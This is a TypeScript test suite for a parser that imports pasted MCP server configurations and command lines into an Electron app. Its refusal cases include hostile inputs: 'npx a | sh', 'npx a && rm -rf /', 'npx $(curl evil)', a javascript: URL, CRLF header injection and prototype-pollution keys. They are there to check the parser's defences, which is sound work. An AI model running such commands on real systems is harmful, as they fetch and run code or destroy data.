import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readPaste } from '../../../electron/onboarding/read-paste.ts';
import { pastedServer } from '../../../shared/ipc/window.ts';

const free = () => false;
const read = (text: string) => {
  const found = readPaste(text, free, '/home/me');
  if (!found.ok) throw new Error(found.message);
  return found.value;
};
const refusal = (text: string): string => {
  const found = readPaste(text, free);
  if (found.ok) throw new Error(JSON.stringify(found.value));
  return found.message;
};
const files = {
  transport: 'stdio',
  command: 'npx',
  args: ['-y', '@modelcontextprotocol/server-filesystem', '/data'],
  env: {},
};

describe('a pasted configuration', () => {
  it.each([
    [
      'Claude Desktop, Claude Code, Cursor',
      '{"mcpServers":{"files":{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","/data"]}}}',
    ],
    [
      'VS Code',
      '{"servers":{"files":{"type":"stdio","command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","/data"]}},"inputs":[]}',
    ],
    [
      'settings of VS Code',
      '{"mcp":{"servers":{"files":{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","/data"]}}}}',
    ],
    [
      'Zed',
      '{"context_servers":{"files":{"source":"custom","command":{"path":"npx","args":["-y","@modelcontextprotocol/server-filesystem","/data"],"env":{}}}}}',
    ],
    [
      'opencode',
      '{"mcp":{"files":{"type":"local","command":["npx","-y","@modelcontextprotocol/server-filesystem","/data"]}}}',
    ],
    [
      'a bare map',
      '{"files":{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","/data"]}}',
    ],
    [
      'a fragment without its braces',
      '"files": {"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","/data"]},',
    ],
    [
      'a named server',
      '{"name":"files","command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","/data"]}',
    ],
    [
      'with comments and commas',
      '// mine\n{ "mcpServers": { /* one */ "files": { "command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/data",], }, }, }',
    ],
    [
      'from a web page',
      '```json\n{"mcpServers":{"files":{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","/data"]}}}\n```',
    ],
    [
      'Codex',
      '[mcp_servers.files]\ncommand = "npx"\nargs = [\n  "-y", # yes\n  \'@modelcontextprotocol/server-filesystem\',\n  "/data",\n]\n[other]\nx = 1\n',
    ],
    [
      'claude mcp add',
      'claude mcp add --scope user files -- npx -y @modelcontextprotocol/server-filesystem /data',
    ],
    [
      'claude mcp add-json',
      `claude mcp add-json files '{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","/data"]}'`,
    ],
    ['codex mcp add', 'codex mcp add files -- npx -y @modelcontextprotocol/server-filesystem /data'],
    [
      'doorward server add',
      '$ npx doorward server add files -- npx -y @modelcontextprotocol/server-filesystem /data',
    ],
  ])('is read: %s', (_app, text) => {
    expect(read(text)).toEqual([{ id: 'files', name: 'files', launch: files, notes: [] }]);
  });

  it('is read with environment, folder, addresses and headers', () => {
    expect(
      read(
        '{"mcpServers":{"a":{"command":"x","env":{"KEY":"a=b","N":1},"cwd":"/w"},"b":{"type":"sse","url":"https://h/sse","headers":{"X-Key":"v"}},"c":{"serverUrl":"http://localhost:1/mcp"}}}',
      ).map(({ launch }) => launch),
    ).toEqual([
      { transport: 'stdio', command: 'x', args: [], env: { KEY: 'a=b', N: '1' }, cwd: '/w' },
      { transport: 'http', url: 'https://h/sse', headers: { 'X-Key': 'v' } },
      { transport: 'http', url: 'http://localhost:1/mcp', headers: {} },
    ]);
    expect(
      read(
        '[mcp_servers."my server"]\nurl = "https://h/mcp"\nhttp_headers = { "X-A" = "b" }\n[mcp_servers."my server".env]\nA = "b"',
      ),
    ).toMatchObject([
      { id: 'my-server', name: 'my server', launch: { url: 'https://h/mcp', headers: { 'X-A': 'b' } } },
    ]);
  });

  it('says what is not taken over', () => {
    const [found] = read(
      '{"servers":{"a":{"command":"x","env":{"K":"${input:key}","O":{}},"disabled":true,"autoApprove":["t"],"envFile":".env"}},"inputs":[{"id":"key"}]}',
    );
    expect(found?.launch).toMatchObject({ env: { K: '${input:key}' } });
    expect(found?.notes).toEqual([
      'The environment value O is no text and was left out.',
      'It is switched off in the configuration.',
      'Tools that the app let pass without asking are not taken over.',
      'Values from an environment file are not taken over; put them in by hand.',
      'Put the value of ${input:key} in by hand.',
      'Values that VS Code asks for are not taken over; put them in by hand.',
    ]);
    expect(read('{"a":{"command":"npx -y some-server"}}')[0]).toMatchObject({
      launch: { command: 'npx', args: ['-y', 'some-server'] },
      notes: [expect.stringContaining('taken apart') as string],
    });
    expect(read('{"a":{"command":"C:\\\\Program Files\\\\x.exe"}}')[0]?.launch).toMatchObject({
      command: 'C:\\Program Files\\x.exe',
    });
  });
});

describe('a pasted line', () => {
  it.each([
    [
      'npx -y @modelcontextprotocol/server-filesystem@1.2 ~/Documents',
      'filesystem',
      ['-y', '@modelcontextprotocol/server-filesystem@1.2', '/home/me/Documents'],
    ],
    ['npx mcp-remote https://h/mcp', 'remote', ['mcp-remote', 'https://h/mcp']],
    ['uvx mcp-server-git --repository "/my repo"', 'git', ['mcp-server-git', '--repository', '/my repo']],
    [
      'docker run -i --rm ghcr.io/github/github-mcp-server:v1',
      'github',
      ['run', '-i', '--rm', 'ghcr.io/github/github-mcp-server:v1'],
    ],
    ['node /opt/things/dist/index.js', 'index', ['/opt/things/dist/index.js']],
    ['/opt/bin/My_Server --stdio', 'my', ['--stdio']],
    ['npx \\\n  -y \\\n  thing', 'thing', ['-y', 'thing']],
  ])('is a command: %s', (line, id, args) => {
    expect(read(line)).toMatchObject([{ id, launch: { args } }]);
  });

  it('has its environment, or an address, with or without a header', () => {
    expect(read("API_KEY='a b' npx thing")[0]?.launch).toMatchObject({
      command: 'npx',
      env: { API_KEY: 'a b' },
    });
    expect(read('  https://mcp.linear.app/sse ')).toMatchObject([
      { id: 'linear', launch: { url: 'https://mcp.linear.app/sse' } },
    ]);
    expect(
      read('claude mcp add --transport http notes https://h/mcp --header "Authorization: Bearer x:y"'),
    ).toMatchObject([
      { id: 'notes', launch: { url: 'https://h/mcp', headers: { Authorization: 'Bearer x:y' } } },
    ]);
    expect(read('claude mcp add -e A=b -e C=d=e db -- npx db --env keep')).toMatchObject([
      { id: 'db', launch: { command: 'npx', args: ['db', '--env', 'keep'], env: { A: 'b', C: 'd=e' } } },
    ]);
  });
});

describe('a name', () => {
  it('becomes an id that is valid and free', () => {
    const taken = new Set(['files', 'files-2', 'a-very-long-name-of']);
    const ids = (text: string) => {
      const found = readPaste(text, (id) => taken.has(id));
      return found.ok ? found.value.map(({ id }) => id) : found.message;
    };
    expect(
      ids(
        '{"Files":{"command":"x"},"FILES!":{"command":"x"},"日本":{"command":"x"},"A very long name of a server":{"command":"x"}}',
      ),
    ).toEqual([
      'files-3',
      'files-4',
      'server',
      'a-very-long-name-of-2'.slice(0, 20).replace(/-$/, '') === 'a-very-long-name-of'
        ? 'a-very-long-name-o-2'
        : '',
    ]);
  });
});

describe('what cannot be taken over', () => {
  it.each([
    ['', /no server in this text/],
    ['hello there', /neither a configuration/],
    ['{"mcpServers":{}}', /no server/],
    ['{"mcpServers":{"a":{}}}', /"a" has neither a command nor an address/],
    ['{"a":{"command":"x"},"b":5}', /no server/],
    ['{"mcpServers":{"a":{"command":"x"}', /not valid JSON/],
    ['{"a":{"command":"x\\u0000y"}}', /control characters/],
    ['{"a":{"command":"x","args":["a\\u001b[2J"]}}', /control characters/],
    ['{"a":{"command":"x","args":[{}]}}', /no text/],
    ['{"a":{"command":"x","env":{"A=B":"c"}}}', /unusable name/],
    ['{"a":{"command":"x","env":{"A":"c\\u0000d"}}}', /no program can take/],
    ['{"a":{"url":"ftp://h"}}', /http/],
    ['{"a":{"url":"javascript:alert(1)"}}', /http/],
    ['{"a":{"url":"https://h","headers":{"X":"a\\r\\nEvil: b"}}}', /cannot be sent/],
    ['{"a":{"command":"x","env":{"__proto__":"y"}}}', /unusable name/],
    ['npx a | sh', /more than one command/],
    ['npx a && rm -rf /', /more than one command/],
    ['npx $(curl evil)', /more than one command/],
    ['npx "a', /no partner/],
    ['npx a\nnpx b', /several lines/],
    ['claude mcp add files', /names no server/],
    [`${'['.repeat(100_000)}`, /nested too deeply/],
    [`{"a":${'{"b":'.repeat(5000)}1${'}'.repeat(5000)}}`, /nested too deeply/],
    [
      JSON.stringify(Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`s${i}`, { command: 'x' }]))),
      /more than 50/,
    ],
  ])('is refused in one sentence: %s', (text, sentence) => {
    expect(refusal(text)).toMatch(sentence);
    expect(refusal(text)).toMatch(/\.$/);
    expect(refusal(text)).not.toMatch(/\p{Cc}/u);
  });

  it('does not touch prototypes, whatever the names', () => {
    for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
      const found = readPaste(`{"mcpServers":{"${name}":{"command":"x","env":{"toString":"y"}}}}`, free);
      expect(found).toMatchObject({ ok: true, value: [{ name, launch: { env: { toString: 'y' } } }] });
    }
    expect(({} as Record<string, unknown>)['command']).toBeUndefined();
    expect(readPaste('{"__proto__":{"mcpServers":{"a":{"command":"x"}}}}', free).ok).toBe(false);
  });

  it('never throws and never takes long, and what it finds is valid and says the same when it is pasted again', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 300 }),
      fc.json(),
      fc
        .array(
          fc.constantFrom(
            '{',
            '}',
            '[',
            ']',
            '"',
            ',',
            ':',
            '//',
            '/*',
            '*/',
            '\\',
            '\n',
            "'",
            '=',
            '[mcp_servers.a]\n',
            '"command"',
            '"url"',
            'npx ',
            'claude mcp add ',
            '--env ',
            '-- ',
            'https://h ',
            'a',
            '1',
          ),
          { maxLength: 60 },
        )
        .map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(text, (pasted) => {
        const found = readPaste(pasted, free);
        if (!found.ok) {
          expect(found.message.length).toBeLessThan(300);
          return;
        }
        for (const server of found.value) pastedServer.strict().parse(server);
        expect(new Set(found.value.map(({ id }) => id)).size).toBe(found.value.length);
      }),
      { numRuns: 3000 },
    );
  });

  it.each([
    ['"'],
    ['\\"'],
    ['"\\'],
    ['/*'],
    ['//'],
    [',]'],
    ['[,'],
    ['{"a":'],
    ['\n'],
    [' '],
    ['\n[mcp_servers.a]\nb = [\n'],
    ["'"],
    ['a/'],
    ['a@'],
    ['-x '],
    ['${'],
    ['```'],
    ['"a":{"command":"x"},'],
  ])('takes no longer for the longest text, whatever it repeats: %j', (part) => {
    for (const start of ['', '{', '{"a":"', '[mcp_servers.a]\nb = "', 'npx ', '{"a":{"command":"']) {
      const text = `${start}${part.repeat(256 * 1024)}`.slice(0, 256 * 1024 - 20);
      const began = performance.now();
      readPaste(text, free);
      readPaste(`${text}"}}`, free);
      expect(performance.now() - began).toBeLessThan(10_000);
    }
  });

  it('finds again what a configuration says, through every way of writing it', () => {
    const word = fc
      .string({
        minLength: 1,
        maxLength: 20,
        unit: fc.constantFrom(...Array.from('abcXYZ019 _-./@:"\'\\$%=é')),
      })
      .filter((text) => text.trim() !== '');
    fc.assert(
      fc.property(
        word,
        fc.array(word, { maxLength: 4 }),
        fc.dictionary(fc.stringMatching(/^[A-Z_]{1,8}$/), word, { maxKeys: 3 }),
        (command, args, env) => {
          const entry = { command, args: ['x', ...args], env };
          const loose = JSON.stringify({ mcpServers: { s: entry } }, null, 2)
            .replaceAll(/([\]}"])(\n\s*[\]}])/g, '$1, // here$2')
            .replace('{', '/* and */ {');
          expect(read(loose)[0]?.launch).toEqual({ transport: 'stdio', ...entry });
          const toml = `[mcp_servers.s]\ncommand = ${JSON.stringify(command)}\nargs = ${JSON.stringify(['x', ...args])}\n[mcp_servers.s.env]\n${Object.entries(
            env,
          )
            .map(([key, value]) => `${key} = ${JSON.stringify(value)}`)
            .join('\n')}\n`;
          expect(read(toml)[0]?.launch).toEqual({ transport: 'stdio', ...entry });
          const quoted = (text: string) => `'${text.replaceAll("'", "'\\''")}'`;
          const line = `claude mcp add ${Object.entries(env)
            .map(([key, value]) => `-e ${quoted(`${key}=${value.trim()}`)}`)
            .join(' ')} s -- ${[command, 'x', ...args].map(quoted).join(' ')}`;
          expect(read(line)[0]?.launch).toEqual({
            transport: 'stdio',
            ...entry,
            env: Object.fromEntries(Object.entries(env).map(([key, value]) => [key, value.trim()])),
          });
        },
      ),
      { numRuns: 500 },
    );
  });
});
